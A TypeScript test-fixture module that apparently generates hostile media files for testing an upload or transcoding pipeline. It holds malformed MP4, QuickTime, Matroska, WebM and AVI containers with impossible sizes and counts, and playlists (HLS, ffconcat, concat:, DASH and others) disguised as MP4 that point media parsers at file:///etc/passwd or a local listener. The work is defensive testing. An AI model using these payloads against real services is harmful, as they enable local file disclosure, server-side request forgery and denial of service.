/** Videos that lie, and lists of media that lead into the network or to files of the machine. */
import {
  box,
  type HostileFile,
  inserted,
  latin1,
  patched,
  patchedBehind,
  riffChunk,
  u16be,
  u32be,
  u32le,
} from './bytes.ts';
import type { ValidFiles } from './valid-files.ts';

/** @param address `127.0.0.1:port` of a listener that nothing may ever contact */
export function hostileVideos(valid: ValidFiles, address: string): HostileFile[] {
  return [...lies(valid), ...references(valid, address), ...playlists(valid, address)];
}

function lies({ mp4, mov, mkv, webm, avi }: ValidFiles): HostileFile[] {
  const inMp4 = (name: string, type: string, skip: number, value: Buffer) => ({
    name: `MP4 ${name}`,
    bytes: patchedBehind(mp4.bytes, type, skip, value),
  });
  return [
    inMp4('of 65535 by 65535 pixels', 'avc1', 24, Buffer.concat([u16be(65_535), u16be(65_535)])),
    inMp4('of no pixels', 'avc1', 24, Buffer.alloc(4)),
    inMp4('shown at 65535 by 65535 pixels', 'tkhd', 76, Buffer.alloc(8, 0xff)),
    inMp4('of a negative duration', 'mvhd', 16, u32be(0xffffff00)),
    inMp4('of 130 years', 'mvhd', 12, Buffer.concat([u32be(1), u32be(0xfffffffe)])),
    inMp4('whose frames take no time', 'stts', 12, u32be(0)),
    inMp4('whose frames take 2^31 ticks', 'stts', 12, u32be(0x7fffffff)),
    inMp4('with 2^32 frames', 'stsz', 8, u32be(0xffffffff)),
    inMp4('with 2^32 key frames', 'stss', 4, u32be(0xffffffff)),
    inMp4('whose pieces lie behind the file', 'stco', 8, u32be(0x7fffffff)),
    inMp4('with parameters that are none', 'avcC', 6, Buffer.alloc(20, 0xff)),
    inMp4('of an unknown codec', 'stsd', 12, latin1('evil')),
    inMp4('turned by an impossible matrix', 'tkhd', 40, Buffer.alloc(36, 0x7f)),
    {
      name: 'MP4 whose frames are noise',
      bytes: patchedBehind(mp4.bytes, 'mdat', 4, Buffer.alloc(2000, 0xa5)),
    },
    {
      name: 'MP4 with 16 MB that nobody knows',
      bytes: Buffer.concat([mp4.bytes, box('free', Buffer.alloc(16e6))]),
    },
    {
      name: 'QuickTime with a compressed table that is none',
      bytes: patchedBehind(mov.bytes, 'moov', 4, latin1('cmov')),
    },
    {
      name: 'Matroska of 2^31 by 2^31 pixels',
      bytes: patchedBehind(mkv.bytes, '\xb0\x81', -1, Buffer.of(0x84, 0x7f, 0xff, 0xff, 0xff)),
    },
    {
      name: 'Matroska of a segment without end',
      bytes: patchedBehind(
        mkv.bytes,
        '\x18\x53\x80\x67',
        0,
        Buffer.of(0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff),
      ),
    },
    {
      name: 'Matroska of a negative time scale',
      bytes: patchedBehind(mkv.bytes, '\x2a\xd7\xb1', 1, Buffer.alloc(3, 0xff)),
    },
    {
      name: 'WebM whose frames are noise',
      bytes: patched(webm.bytes, Math.floor(webm.bytes.length / 2), Buffer.alloc(1500, 0x5a)),
    },
    { name: 'WebM that is repeated', bytes: Buffer.concat(Array(20).fill(webm.bytes)) },
    {
      name: 'AVI of 2^31 by 2^31 pixels',
      bytes: patchedBehind(avi.bytes, 'avih', 36, Buffer.alloc(8, 0x7f)),
    },
    { name: 'AVI of no time', bytes: patchedBehind(avi.bytes, 'avih', 4, Buffer.alloc(4)) },
    { name: 'AVI of 2^32 frames', bytes: patchedBehind(avi.bytes, 'avih', 20, Buffer.alloc(4, 0xff)) },
    { name: 'AVI of 2^32 streams', bytes: patchedBehind(avi.bytes, 'avih', 28, Buffer.alloc(4, 0xff)) },
    {
      name: 'AVI with an index behind the file',
      bytes: patchedBehind(avi.bytes, 'idx1', 12, u32le(0xfffffff0)),
    },
  ];
}

/** Tracks and subtitles that say that their data is elsewhere. */
function references({ mp4, mov, avi, mkv }: ValidFiles, address: string): HostileFile[] {
  const here = u32be(1);
  const elsewhere = (bytes: Buffer, type: string, target: string) =>
    patchedBehind(bytes, 'url ', -4, Buffer.concat([latin1(type), u32be(0), latin1(target)]));
  const playlist = `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0\nhttp://${address}/gab2.ts\n#EXTINF:1.0\nfile:///etc/passwd\n#EXT-X-ENDLIST\n`;
  const subtitles = Buffer.concat([
    latin1('GAB2\0\x02\0'),
    u32le(0),
    latin1('\x04\0'),
    u32le(playlist.length),
    latin1(playlist),
  ]);
  const movi = avi.bytes.indexOf('movi', 0, 'latin1');
  return [
    { name: 'MP4 whose data is at a URL', bytes: patchedBehind(mp4.bytes, 'url ', 0, u32be(0)) },
    { name: 'MP4 whose data is at the listener', bytes: elsewhere(mp4.bytes, 'url ', `http://${address}/d`) },
    { name: 'MP4 whose data is a file', bytes: elsewhere(mp4.bytes, 'url ', 'file:///etc/passwd') },
    { name: 'QuickTime whose data is an alias', bytes: elsewhere(mov.bytes, 'alis', '/etc/passwd') },
    {
      name: 'QuickTime that refers to another film',
      bytes: Buffer.concat([
        box('ftyp', latin1('qt  '), here, latin1('qt  ')),
        box(
          'moov',
          box(
            'rmra',
            box(
              'rmda',
              box(
                'rdrf',
                u32be(0),
                latin1('url '),
                u32be(40),
                latin1(`http://${address}/film.mov`.padEnd(40, '\0')),
              ),
            ),
          ),
        ),
      ]),
    },
    {
      name: 'AVI with a playlist as subtitles',
      bytes: inserted(avi.bytes, movi + 4, riffChunk('02tx', subtitles)),
    },
    {
      name: 'Matroska that goes on in another file',
      bytes: patchedBehind(
        mkv.bytes,
        '\x15\x49\xa9\x66',
        8,
        Buffer.concat([Buffer.of(0x3c, 0x83, 0xab, 0x8b), latin1('/etc/passwd')]),
      ),
    },
  ];
}

function playlists({ mp4 }: ValidFiles, address: string): HostileFile[] {
  const url = `http://${address}`;
  const hls = `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1.0,\n${url}/a.ts\n#EXT-X-ENDLIST\n`;
  const texts: Readonly<Record<string, string>> = {
    HLS: hls,
    'HLS with a key': `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"\n#EXTINF:1,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n`,
    'HLS of a concatenation': `#EXTM3U\n#EXTINF:1,\nconcat:${url}/header.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST\n`,
    'HLS of HLS': `#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n${url}/b.m3u8\n`,
    ffconcat: `ffconcat version 1.0\nfile '${url}/a.mp4'\nfile '/etc/passwd'\n`,
    DASH: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${url}/</BaseURL><Period><AdaptationSet><Representation id="1"><SegmentList><SegmentURL media="a.mp4"/></SegmentList></Representation></AdaptationSet></Period></MPD>`,
    SDP: `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${address.split(':')[1]} RTP/AVP 96\n`,
    PLS: `[playlist]\nFile1=${url}/a.mp3\nNumberOfEntries=1\n`,
    ASX: `<asx version="3.0"><entry><ref href="${url}/a.wma"/></entry></asx>`,
    SMIL: `<smil><body><video src="${url}/a.mp4"/></body></smil>`,
    RTSP: `RTSPtext\nrtsp://${address}/a\n`,
  };
  return [
    ...Object.entries(texts).map(([name, text]) => ({
      name: `playlist: ${name}`,
      bytes: latin1(text),
      fileName: 'a.mp4',
      type: 'video/mp4',
    })),
    {
      name: 'playlist behind the name of an MP4',
      bytes: Buffer.concat([mp4.bytes.subarray(0, mp4.bytes.readUInt32BE(0)), latin1(hls)]),
    },
    { name: 'playlist as the frames of an MP4', bytes: patchedBehind(mp4.bytes, 'mdat', 0, latin1(hls)) },
    {
      name: 'playlist with the head of a WAV',
      bytes: Buffer.concat([latin1('RIFF\xff\0\0\0WAVE'), latin1(hls)]),
    },
    {
      name: 'playlist in a tag of an MP3',
      bytes: Buffer.concat([latin1('ID3\x03\0\0\0\0\0\0'), latin1(hls)]),
    },
  ];
}
